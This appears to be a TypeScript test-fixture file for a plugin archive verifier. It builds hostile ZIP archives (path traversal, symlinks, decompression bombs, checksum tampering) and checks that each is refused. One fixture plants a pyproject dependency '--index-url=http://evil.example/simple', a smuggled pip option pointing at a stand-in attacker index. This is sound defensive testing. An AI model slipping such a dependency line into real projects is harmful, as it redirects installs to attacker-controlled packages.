import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { baseCases, buildYazlZip, extractZip, layoutCases, nameCases } from '@magellon/hub-core/test-support';
import type { Finding } from '../../src/findings';
import { verifyArchive } from '../../src/node/archive/verify-archive';
import { readZipEntry, ZipError } from '../../src/node/zip';
import { catalogArchiveFixtures } from './catalog';
import { type Fixture, type FixtureTable, STARTER, tempDir } from './fixture';

const LABEL = 'plugin.mpn';
const MANIFEST = `${LABEL}!manifest.yaml`;
const HOSTILE = [...baseCases, ...layoutCases, ...nameCases];

/** Verifies `bytes` as an archive named plugin.mpn, the way lint and the catalog check do. */
async function verifyBytes(bytes: Buffer, opts: Parameters<typeof verifyArchive>[1] = {}) {
  const file = join(tempDir('zip'), LABEL);
  writeFileSync(file, bytes);
  return verifyArchive(file, { label: LABEL, ...opts });
}

/** The first hostile archive of the shared test tables refused with `code`. */
function hostileCase(code: string): Fixture {
  return async () => {
    const found = HOSTILE.find((c) => c.code === code);
    if (!found) throw new Error(`fixture bug: no hostile case for ${code}`);
    const { findings } = await verifyBytes(found.bytes(), { limits: found.limits });
    return { findings, expected: { file: LABEL } };
  };
}

/** A ZipError reported the way every command reports one: a finding on the archive. */
async function refusal(run: () => Promise<unknown>): Promise<Finding[]> {
  try {
    await run();
    return [];
  } catch (err) {
    if (!(err instanceof ZipError)) throw err;
    return [{ file: err.file, severity: 'error', code: err.code, message: err.message }];
  }
}

export const zipFixtures: FixtureTable<'zip'> = {
  'zip.not-found': async () => {
    const fifo = join(tempDir('zip'), LABEL);
    execFileSync('mkfifo', [fifo]);
    const { findings } = await verifyArchive(fifo, { label: LABEL });
    return { findings, expected: { file: LABEL } };
  },
  'zip.corrupt': hostileCase('zip.corrupt'),
  'zip.path-traversal': hostileCase('zip.path-traversal'),
  'zip.absolute-path': hostileCase('zip.absolute-path'),
  'zip.backslash': hostileCase('zip.backslash'),
  'zip.invalid-name': hostileCase('zip.invalid-name'),
  'zip.symlink': hostileCase('zip.symlink'),
  'zip.special-file': hostileCase('zip.special-file'),
  'zip.duplicate-entry': hostileCase('zip.duplicate-entry'),
  'zip.case-collision': hostileCase('zip.case-collision'),
  'zip.path-conflict': hostileCase('zip.path-conflict'),
  'zip.too-many-entries': hostileCase('zip.too-many-entries'),
  'zip.entry-too-large': hostileCase('zip.entry-too-large'),
  'zip.too-large': hostileCase('zip.too-large'),
  'zip.compression-ratio': hostileCase('zip.compression-ratio'),
  'zip.total-ratio': hostileCase('zip.total-ratio'),
  'zip.size-mismatch': hostileCase('zip.size-mismatch'),
  'zip.encrypted': hostileCase('zip.encrypted'),
  'zip.unsupported-compression': hostileCase('zip.unsupported-compression'),
  'zip.entry-missing': async () => {
    const file = join(tempDir('zip'), LABEL);
    writeFileSync(file, readFileSync(join(STARTER, 'assets/plugins/fft-1.0.0.mpn')));
    const findings = await refusal(() => readZipEntry(file, 'no-such-file.py', 1024));
    return { findings, expected: { file } };
  },
  'zip.destination-not-empty': async () => {
    const dest = tempDir('dest');
    writeFileSync(join(dest, 'precious.txt'), 'keep me');
    const bytes = readFileSync(join(STARTER, 'assets/plugins/fft-1.0.0.mpn'));
    const { findings } = await verifyBytes(bytes, { extractTo: dest });
    return { findings, expected: { file: LABEL } };
  },
  'zip.unowned-bytes': hostileCase('zip.unowned-bytes'),
  'zip.overlapping-entries': hostileCase('zip.overlapping-entries'),
  'zip.header-mismatch': hostileCase('zip.header-mismatch'),
  'zip.descriptor-mismatch': hostileCase('zip.descriptor-mismatch'),
  'zip.bad-directory': hostileCase('zip.bad-directory'),
  'zip.ambiguous-name': hostileCase('zip.ambiguous-name'),
  'zip.directory-has-data': hostileCase('zip.directory-has-data'),
  'zip.unportable-name': hostileCase('zip.unportable-name'),
};

/** The files of a real packed archive (the starter fft 1.0.0), to tamper with. */
async function starterFiles(): Promise<Map<string, Buffer>> {
  const dir = join(tempDir('unpacked'), 'fft');
  await extractZip(join(STARTER, 'assets/plugins/fft-1.0.0.mpn'), dir);
  const files = new Map<string, Buffer>();
  const walk = (rel: string) => {
    for (const name of readdirSync(join(dir, rel)).sort()) {
      const path = rel ? `${rel}/${name}` : name;
      if (statSync(join(dir, path)).isDirectory()) walk(path);
      else files.set(path, readFileSync(join(dir, path)));
    }
  };
  walk('');
  return files;
}

/** Re-zips the starter archive after `change` and verifies it; the finding belongs in `file` at the line of `needle`. */
function tampered(
  change: (files: Map<string, Buffer>) => void,
  where: { file: 'archive' | 'manifest'; needle?: string },
): Fixture {
  return async () => {
    const files = await starterFiles();
    change(files);
    const bytes = await buildYazlZip([...files].map(([name, data]) => ({ name, data })));
    const { findings } = await verifyBytes(bytes);
    if (where.file === 'archive') return { findings, expected: { file: LABEL } };
    const text = files.get('manifest.yaml')!.toString('utf8');
    const line = where.needle ? text.split('\n').findIndex((l) => l.includes(where.needle!)) + 1 : 1;
    if (line === 0) throw new Error(`fixture bug: "${where.needle}" not in the manifest`);
    return { findings, expected: { file: MANIFEST, line } };
  };
}

const setManifest = (files: Map<string, Buffer>, change: (text: string) => string) => {
  const text = change(files.get('manifest.yaml')!.toString('utf8'));
  files.set('manifest.yaml', Buffer.from(text));
  files.set('plugin.yaml', Buffer.from(text));
};

export const archiveFixtures: FixtureTable<'archive'> = {
  ...catalogArchiveFixtures,
  'archive.no-manifest': tampered((f) => f.delete('manifest.yaml'), { file: 'archive' }),
  'archive.plugin-yaml-differs': tampered((f) => f.set('plugin.yaml', Buffer.from('plugin_id: x\n')), {
    file: 'archive',
  }),
  'archive.no-archive-id': tampered((f) => setManifest(f, (t) => t.replace(/^archive_id: .*\n/m, '')), {
    file: 'manifest',
  }),
  'archive.placeholder-archive-id': tampered(
    (f) =>
      setManifest(f, (t) =>
        t.replace(/^archive_id: .*$/m, 'archive_id: 00000000-0000-7000-8000-000000000000'),
      ),
    { file: 'manifest', needle: 'archive_id:' },
  ),
  'archive.unlisted-file': tampered((f) => f.set('extra.py', Buffer.from('print(1)\n')), {
    file: 'manifest',
    needle: 'file_checksums:',
  }),
  'archive.checksum-mismatch': tampered((f) => f.set('main.py', Buffer.from('print("swapped")\n')), {
    file: 'manifest',
    needle: '  main.py:',
  }),
  'archive.missing-file': tampered((f) => f.delete('main.py'), { file: 'manifest', needle: '  main.py:' }),
  'archive.unsafe-dependency': async () => {
    // A correctly listed pyproject whose dependency is a pip option: everything else about it is fine.
    const files = await starterFiles();
    const pyproject =
      '[project]\nname = "fft"\ndependencies = [\n  "numpy>=1.26",\n  "--index-url=http://evil.example/simple",\n]\n';
    files.set('pyproject.toml', Buffer.from(pyproject));
    const digest = createHash('sha256').update(pyproject).digest('hex');
    setManifest(files, (t) => t.replace(/^( {2}pyproject\.toml: )[0-9a-f]{64}$/m, `$1${digest}`));
    const bytes = await buildYazlZip([...files].map(([name, data]) => ({ name, data })));
    const { findings } = await verifyBytes(bytes);
    return { findings, expected: { file: `${LABEL}!pyproject.toml`, line: 5 } };
  },
};
